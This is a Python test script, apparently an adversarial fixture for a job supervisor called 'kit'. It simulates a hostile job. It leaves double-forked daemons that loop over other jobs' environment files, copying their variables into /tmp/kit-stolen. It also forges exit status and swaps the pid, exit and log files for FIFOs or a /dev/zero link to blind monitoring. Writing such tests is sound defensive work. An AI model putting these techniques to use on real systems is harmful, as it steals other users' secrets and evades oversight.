"""A hostile job that tries to outlive `kit stop` and to blind kit, each rank on its own host:

  outlive.py JOBS_DIR forge   every rank leaves a daemon (`env -i`, setsid, a double fork: no KIT_JOB, adopted by
                              the container's init) that copies every job's variables it can read into
                              /tmp/kit-stolen; the rank on the primary (where the job's folder is) writes 0 into its
                              exit file and makes its pid file a FIFO; then they sleep
  outlive.py JOBS_DIR daemon  the daemons alone, then sleep
  outlive.py JOBS_DIR fifo    the rank on the primary makes its exit file a FIFO and its output.log a link to
                              /dev/zero; then they sleep
  outlive.py JOBS_DIR sleep   a few seconds of nothing
"""

import os
import sys
import time

folder, mode = os.path.join(sys.argv[1], os.environ["KIT_JOB"]), sys.argv[2]
STEAL = "while :; do cat /run/kit/env/* >> /tmp/kit-stolen 2>/dev/null; sleep 0.2; done"


def daemon() -> None:
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sh", ["kit-hostile-daemon", "-c", STEAL], {})
        os._exit(0)
    os.waitpid(child, 0)


def replace(name: str, make) -> None:
    path = os.path.join(folder, name)
    for _ in range(300):  # (the supervisor writes `pid` as it starts the launcher)
        if os.path.lexists(path):
            break
        time.sleep(0.1)
    os.remove(path)
    make(path)


if mode == "sleep":
    time.sleep(8)
    sys.exit(0)
if mode in ("forge", "daemon"):
    daemon()
if os.path.isdir(folder) and mode == "forge":
    with open(os.path.join(folder, "exit"), "w") as f:
        f.write("0\n")
    replace("pid", os.mkfifo)
if os.path.isdir(folder) and mode == "fifo":
    replace("exit", os.mkfifo) if os.path.lexists(os.path.join(folder, "exit")) else os.mkfifo(os.path.join(folder, "exit"))
    replace("output.log", lambda path: os.symlink("/dev/zero", path))
print("planted", flush=True)
time.sleep(600)
